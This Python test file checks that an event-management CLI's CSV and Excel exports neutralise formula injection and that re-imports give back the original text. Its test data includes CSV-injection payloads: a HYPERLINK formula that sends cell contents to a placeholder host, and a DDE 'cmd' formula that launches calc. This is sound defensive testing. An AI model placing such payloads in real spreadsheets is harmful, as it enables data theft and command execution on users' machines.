"""Every export is safe to open in Excel, and a round trip through `impor` gives back the text.

Each hostile text below is typed by a stranger (a Kartu Ide title at a desk, a
name in a spreadsheet); in no exported file may it become a live formula.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from bursa_cli.cells import csv_cell, unescape
from bursa_cli.impor import export_list, import_file, plan_import
from bursa_cli.recap import recap_event
from bursa_cli.recap.export import write_csv, write_xlsx
from bursa_cli.render.undangan import distribution_csv
from bursa_cli.schema.event import load_event
from support import make_event, minimal_data

HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+62 812 aman",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "'=sudah berapostrof",
]


@pytest.mark.parametrize("text", HOSTILE + ["'biasa", "biasa", "-", "'"])
def test_csv_cell_round_trip_is_exact(text: str):
    written = csv_cell(text)
    assert unescape(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def _csv_rows(path: Path) -> list[list[str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_ekspor_neutralises_and_impor_gives_back_the_text(tmp_path: Path, suffix: str):
    inovasi = minimal_data("inovasi.yaml")
    for item, text in zip(inovasi, HOSTILE):
        item["judul"] = text
    root = make_event(tmp_path / "acara", {"inovasi.yaml": inovasi})
    event = load_event(root).event
    out = tmp_path / f"inovasi{suffix}"
    export_list("inovasi", event, out)
    titles = [i.judul for i in event.inovasi]
    if suffix == ".xlsx":
        sheet = load_workbook(out).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value in titles]
        assert sorted(c.value for c in cells) == sorted(titles)
        assert all(c.data_type == "s" for c in cells)  # text, never a formula
    else:
        cells = [cell for row in _csv_rows(out) for cell in row if unescape(cell) in titles]
        assert sorted(unescape(c) for c in cells) == sorted(titles)
        assert all(c.startswith("'") for c in cells)
    plan = plan_import("inovasi", out, event)
    assert [r.status for r in plan.rows] == ["sama"] * len(titles), plan.errors
    empty = make_event(tmp_path / "kosong", {"inovasi.yaml": "[]\n"})
    import_file("inovasi", out, empty)
    assert [i.judul for i in load_event(empty).event.inovasi] == titles


def test_rekap_neutralises_a_kartu_ide_title_typed_at_the_desk(contoh_event: Path, tmp_path: Path):
    log = contoh_event / "log" / "ide" / "J3.yaml"
    first = json.loads(next(line for line in log.read_text(encoding="utf-8").splitlines()
                            if line.startswith("- "))[2:])
    lines = [json.dumps({**first, "judul": text, "waktu": first["waktu"]}, ensure_ascii=False) for text in HOSTILE]
    with open(log, "a", encoding="utf-8") as out:
        out.write("".join(f"- {line}\n" for line in lines))
    recap = recap_event(contoh_event)
    book = load_workbook(write_xlsx(recap, tmp_path / "rekap.xlsx"))
    typed = {text.strip() for text in HOSTILE}  # the day's models trim the tab around a title
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row if c.value in typed]
    assert {c.value for c in cells} == typed
    assert all(c.data_type == "s" for c in cells)
    for path in write_csv(recap, tmp_path / "csv"):
        text = path.read_text(encoding="utf-8-sig")
        delimiter = ";" if "titik-koma" in path.parts else ","
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)
                assert not cell.startswith("-") or cell.lstrip("-").replace(",", "").replace(".", "").isdigit()


def test_rejected_rows_workbook_keeps_hostile_text_as_text(tmp_path: Path):
    from openpyxl import Workbook

    root = make_event(tmp_path / "acara")
    source = tmp_path / "bulu.xlsx"
    book = Workbook()
    book.active.append(["No", "Nama Lengkap", "Jabatan", "Desa/Kelurahan"])
    book.active.append([1, "Badu", "=HYPERLINK(\"http://x.invalid\")", "Tegalurung"])
    book.active["C2"].data_type = "s"  # typed as text in the officer's file, as Excel does with a leading '
    book.save(source)
    _, outcome = import_file("peserta", source, root, skip_errors=True)
    sheet = load_workbook(outcome.rejected_file).active
    [cell] = [c for row in sheet.iter_rows() for c in row if c.value == "=HYPERLINK(\"http://x.invalid\")"]
    assert cell.data_type == "s"


def test_distribution_csv_neutralises_every_text_cell():
    person = SimpleNamespace(yth="=cmd|' /C calc'!A0", baris=["@jalan"], kelompok_label="Desa",
                             jabatan="+Kepala", instansi="-Desa Bulu")
    text = distribution_csv({"penerima": [person], "surat": {"nomor": "005/1/2026"}})
    [_, row] = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
    assert row == ["1", "005/1/2026", "'=cmd|' /C calc'!A0", "'@jalan", "Desa", "'+Kepala", "'-Desa Bulu"]
